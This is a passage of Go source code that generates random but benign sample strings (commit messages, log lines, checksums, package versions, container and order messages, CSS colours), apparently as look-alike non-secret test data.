	for range 20 {
		out = append(out, fmt.Sprintf("commit %s\nAuthor: Dev <dev@example.test>\n\n    %s", g.s(hexlc, 40),
			g.pick("fix typo in README", "update dependencies", "add retry to uploader", "handle empty password field", "document token scopes")))
	}
	for range 20 {
		out = append(out, fmt.Sprintf("%s INFO request_id=%s trace_id=%s span_id=%s status=200 duration_ms=%d",
			"2024-05-02T10:"+g.s("012345", 1)+g.s(b4Dig, 1)+":"+g.s("012345", 1)+g.s(b4Dig, 1)+"Z", b4uuid(g), g.s(hexlc, 32), g.s(hexlc, 16), g.rng.IntN(900)+3))
	}
	for range 15 {
		out = append(out, fmt.Sprintf("sha256:%s  %s", g.s(hexlc, 64), g.pick("release-v1.4.2-linux-amd64.tar.gz", "app.jar", "checksums.txt", "image.tar")))
	}
	for range 10 {
		out = append(out, fmt.Sprintf("%s  ./dist/%s", g.s(hexlc, 32), g.pick("index.js", "style.css", "logo.png", "main.wasm"))+"  (md5 checksum)")
	}
	for range 15 {
		out = append(out, fmt.Sprintf("%s%s%s  %s", g.pick("pkg-", "lib", "node-"), g.pick(b4Words...), "", fmt.Sprintf("v%d.%d.%d", g.rng.IntN(9), g.rng.IntN(30), g.rng.IntN(20))))
	}
	for range 15 {
		out = append(out, fmt.Sprintf("Deleted branch %s (was %s).", g.pick("fix/login", "feat/tokens", "chore/deps", "docs/auth"), g.s(hexlc, 7)))
	}
	for range 10 {
		out = append(out, fmt.Sprintf("container %s started (image %s:%d.%d)", g.s(hexlc, 12), g.pick("nginx", "redis", "postgres", "grafana/grafana"), g.rng.IntN(20)+1, g.rng.IntN(10)))
	}
	for range 10 {
		out = append(out, fmt.Sprintf("order %s created for customer %d, invoice INV-%s", b4uuid(g), g.rng.IntN(90000)+10000, g.s(b4Dig, 6)))
	}
	for range 10 {
		out = append(out, fmt.Sprintf("color: #%s; border-color: #%s;", g.s(hexlc, 6), g.s(hexlc, 6)))
	}
	for i := range out {
		out[i] = strings.ReplaceAll(out[i], "\n", " ")
	}
	return out
}
